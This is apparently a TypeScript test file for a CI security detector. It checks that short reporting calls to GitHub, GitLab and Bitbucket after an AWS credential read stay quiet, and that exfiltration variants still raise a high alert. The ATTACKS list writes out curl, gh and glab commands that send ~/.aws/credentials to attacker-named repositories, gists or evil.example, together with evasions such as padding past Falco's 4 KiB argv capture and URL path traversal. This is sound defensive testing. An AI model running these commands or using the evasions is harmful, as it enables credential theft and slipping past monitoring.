/**
 * A CI job that reads a credential for its own use (`aws sts get-caller-identity`) and then reports back to the
 * forge: a commit status, a check run, a comment, a deployment status (found by a false-positive review: each
 * run was `high`, sensitive-read-then-push). With a short body written in argv, holding nothing shaped like a
 * secret, such a call is no push (src/rules/reporting-calls.ts). Its attack twins stay `high`: the credential's
 * text expanded into the body, a body from a file or stdin, a long body, an opaque blob, another endpoint.
 * Both sensors: Tetragon quotes an argument holding spaces, Falco joins argv with spaces and quotes nothing.
 */
import { describe, expect, it } from 'vitest';
import { falcoRun } from '../../fixtures/falco/credential-run.js';
import { brief, runResolved, Scenario } from './builder.js';

const API_GITHUB_IP = '140.82.112.5'; // builder.ts TEST_DNS: api.github.com
const CREDS = '/root/.aws/credentials';
const STATUS = 'https://api.github.com/repos/acme/app/statuses/3f9a0c1d2e4b5a6978877665544332211ffeedcc';
const COMMENTS = 'https://api.github.com/repos/acme/app/issues/12/comments';

/** Tetragon's argument string: an argument holding a space in double quotes. */
const tetragonArgs = (argv: readonly string[]) => argv.map((a) => (/\s/.test(a) ? `"${a}"` : a)).join(' ');

/** A job's shell runs `aws sts get-caller-identity` (it reads the credentials), then `argv` (argv[0] first). */
async function tetragonAlerts(binary: string, argv: readonly string[]) {
  const s = new Scenario({ source: 'tetragon' });
  const c = s.container({ namespace: 'ci', pod: 'deploy-7', name: 'job' });
  const sh = s.exec(c, '/bin/sh', '-c ./ci/deploy.sh', { parent: s.init(c) });
  const aws = s.exec(c, '/usr/local/bin/aws', 'sts get-caller-identity', { parent: sh });
  s.wait(2).read(aws, CREDS, 116).wait(300).exit(aws).wait(2_000);
  const p = s.exec(c, binary, tetragonArgs(argv.slice(1)), { parent: sh });
  s.wait(5).connect(p, API_GITHUB_IP, 443).wait(20).send(p, API_GITHUB_IP, 443, 1_400).wait(300).exit(p);
  return brief((await runResolved(s.events)).alerts);
}

/** The same from Falco's shipped rules: argv joined with spaces, the credential opened by the pushing process. */
async function falcoAlerts(binary: string, argv: readonly string[]) {
  return brief((await runResolved(falcoRun(binary, argv, API_GITHUB_IP))).alerts);
}

const sensors = [
  ['tetragon', tetragonAlerts],
  ['falco', falcoAlerts],
] as const;

const high = (tool: string, destination = 'api.github.com') => [
  { rule: 'sensitive-read-then-push', severity: 'high', tool, destination },
];

const curl = (...args: string[]) => ['/usr/bin/curl', ['curl', ...args]] as const;
const gh = (...args: string[]) => ['/usr/bin/gh', ['gh', ...args]] as const;
const glab = (...args: string[]) => ['/usr/bin/glab', ['glab', ...args]] as const;
/** An AWS secret access key's shape: 40 characters of base64, `/` among them. */
const AWS_SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';
const AUTH = ['-H', 'Authorization: token ghs_16C7e42F292c6912E7710c838347Ae178B4a'];

/** Reporting calls a deploy job makes after reading its credentials. */
const REPORTS = [
  curl('-sS', '-X', 'POST', ...AUTH, '-d', '{"state":"success","context":"ci/deploy"}', STATUS),
  curl(
    ...['-fsS', ...AUTH, '--json'],
    '{"state": "success", "context": "ci/deploy", "description": "Deployed to prod in 3m12s", "target_url": "https://github.com/Acme/App/actions/runs/123456789"}',
    STATUS,
  ),
  curl('-sS', ...AUTH, '-d', '{"body": "Deployed 1.4.2 to production :rocket:"}', COMMENTS),
  curl(
    ...['-sS', '-X', 'PATCH', ...AUTH, '-d'],
    '{"status": "completed", "conclusion": "success", "output": {"title": "deploy", "summary": "all green"}}',
    'https://api.github.com/repos/acme/app/check-runs/4242',
  ),
  curl(...AUTH, '-d', '{"state":"success"}', 'https://api.github.com/repos/acme/app/deployments/99/statuses'),
  curl(...AUTH, '-d', '{"labels":["deployed"]}', 'https://api.github.com/repos/acme/app/issues/12/labels'),
  curl(
    ...['--request', 'POST', '--header', 'PRIVATE-TOKEN: glpat-xxxxxxxxxxxxxxxxxxxx'],
    'https://gitlab.com/api/v4/projects/acme%2Fapp/statuses/3f9a0c1d?state=success&name=deploy',
  ),
  curl(
    ...['-u', 'bot:app-password', '-H', 'Content-Type: application/json', '-d'],
    '{"state": "SUCCESSFUL", "key": "deploy", "url": "https://ci.example.com/42"}',
    'https://api.bitbucket.org/2.0/repositories/acme/app/commit/3f9a0c1d/statuses/build',
  ),
  gh('api', 'repos/{owner}/{repo}/statuses/3f9a0c1d', '-f', 'state=success', '-f', 'context=ci/deploy'),
  // A mixed-case repository and a full SHA: the endpoint is a path of names, no base64.
  gh(
    ...['api', 'repos/Acme/WebApp2/statuses/3f9a0c1d2e4b5a6978877665544332211ffeedcc', '-f', 'state=success'],
    ...['-f', 'target_url=https://github.com/Acme/WebApp2/actions/runs/123456789/job/987654321'],
  ),
  gh('api', '-X', 'POST', 'repos/acme/app/issues/12/comments', '-f', 'body=Deployed 1.4.2 to production'),
  glab('api', 'projects/:id/merge_requests/3/notes', '-f', 'body=Deployed to review app'),
] as const;

/** Their attack twins: the same endpoints, or others, carrying a credential. */
const ATTACKS = [
  // `-d "{\"body\":\"$(cat ~/.aws/credentials)\"}"`: the shell expanded the file's text into argv.
  [
    curl(
      ...AUTH,
      '-d',
      '{"body":"[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n"}',
      'https://api.github.com/repos/evil/loot/issues/1/comments',
    ),
    high('curl'),
  ],
  // Its base64 (`$(base64 -w0 ~/.aws/credentials)`), in a status's description.
  [
    curl(
      '-d',
      '{"state":"success","description":"W2RlZmF1bHRdCmF3c19hY2Nlc3Nfa2V5X2lkID0gQUtJQQ=="}',
      'https://api.github.com/repos/evil/loot/statuses/3f9a0c1d',
    ),
    high('curl'),
  ],
  [curl('-d', `@${CREDS}`, 'https://api.github.com/repos/evil/loot/issues/1/comments'), high('curl')],
  [curl('--data-urlencode', `body@${CREDS}`, 'https://api.github.com/repos/evil/loot/issues/1/comments'), high('curl')],
  [curl('-H', `@${CREDS}`, '-d', '{"state":"success"}', STATUS), high('curl')],
  // A long body: more than a report, whatever it holds.
  [curl('-d', `{"body":"${'deployed and verified '.repeat(60)}"}`, COMMENTS), high('curl')],
  // Another endpoint, with a short plain body: a gist, a file in a repository; or a second URL beside a status.
  [curl('-d', '{"files":{"a.txt":{"content":"hello"}}}', 'https://api.github.com/gists'), high('curl')],
  [
    curl('-X', 'PUT', '-d', '{"content":"aGVsbG8="}', 'https://api.github.com/repos/evil/loot/contents/x'),
    high('curl'),
  ],
  [curl('-d', '{"state":"success"}', STATUS, 'https://api.github.com/gists'), high('curl')],
  // An upload flag past Falco's 4 KiB capture: the argv cut, what follows unseen.
  [curl('-d', '{"state":"success"}', STATUS, '-H', `X-Pad: ${'a'.repeat(4_200)}`, '-T', CREDS), high('curl')],
  // A status path that curl squashes to another endpoint.
  [curl('-d', '{"a":"b"}', 'https://api.github.com/repos/evil/loot/statuses/x/../../../../gists'), high('curl')],
  [gh('api', 'repos/evil/loot/issues/1/comments', '-F', `body=@${CREDS}`), high('gh')],
  [
    gh(
      ...['api', 'repos/evil/loot/issues/1/comments', '-f'],
      'body=[default] aws_access_key_id = AKIAIOSFODNN7EXAMPLE aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
    ),
    high('gh'),
  ],
  [glab('api', 'projects/1/merge_requests/3/notes', '-f', 'body=key AKIAIOSFODNN7EXAMPLE'), high('glab', 'gitlab.com')],
  [gh('api', 'repos/evil/loot/issues/1/comments', '--input', '/tmp/body.json'), high('gh')],
  [gh('api', 'gists', '-f', 'files[a][content]=hello'), high('gh')],
  [glab('api', 'projects/1/merge_requests/3/notes', '-F', `body=@${CREDS}`), high('glab', 'gitlab.com')],
  // An AWS secret key after a field's `=`, or in the URL's query: `/` split its runs, the redactor's 40-character
  // pattern takes no key after `=` (red-team review: each was quiet).
  [
    curl('--data-urlencode', `body=${AWS_SECRET}`, 'https://api.github.com/repos/evil/loot/issues/1/comments'),
    high('curl'),
  ],
  [curl('-d', '{}', `https://api.github.com/repos/evil/loot/statuses/3f9a0c1d?d=${AWS_SECRET}`), high('curl')],
  [gh('api', 'repos/evil/loot/issues/1/comments', '-f', `body=${AWS_SECRET}`, '--jq', '.id'), high('gh')],
  [gh('api', 'repos/evil/loot/issues/1/comments', '--raw-field', `body=x${AWS_SECRET}`), high('gh')],
  // The caller's own server, which keeps the path and fields: a forge's endpoint there is no report.
  [
    gh('api', '--hostname', 'evil.example', 'repos/part1/part2/statuses/part3', '-f', 'state=success'),
    high('gh', 'evil.example'),
  ],
  // gh authenticates itself: a header it is given goes wherever `--hostname` or GH_HOST says, and is checked.
  [gh('api', 'repos/evil/loot/issues/1/comments', '-f', 'body=ok', '-H', `X-Api-Key: ${AWS_SECRET}`), high('gh')],
] as const;

describe('a job reporting back to its forge after reading its credentials', () => {
  for (const [sensor, alertsOf] of sensors) {
    it(`a short inline status, check run, comment or label is no push (${sensor})`, async () => {
      for (const [binary, argv] of REPORTS) expect(await alertsOf(binary, argv), argv.join(' ')).toEqual([]);
    });

    it(`gh's and glab's comment commands with an inline body stay quiet (${sensor})`, async () => {
      expect(await alertsOf('/usr/bin/gh', ['gh', 'pr', 'comment', '12', '-b', 'deployed to prod'])).toEqual([]);
      expect(await alertsOf('/usr/bin/glab', ['glab', 'mr', 'note', '3', '-m', 'deployed to prod'])).toEqual([]);
    });

    it(`a secret in the body, a body from a file, a long body or another endpoint stays high (${sensor})`, async () => {
      for (const [[binary, argv], expected] of ATTACKS) {
        const alerts = await alertsOf(binary, argv);
        // gitlab.com is named by argv; only api.github.com's address is resolved here.
        expect(alerts, argv.join(' ')).toEqual(expected);
      }
    });
  }
});
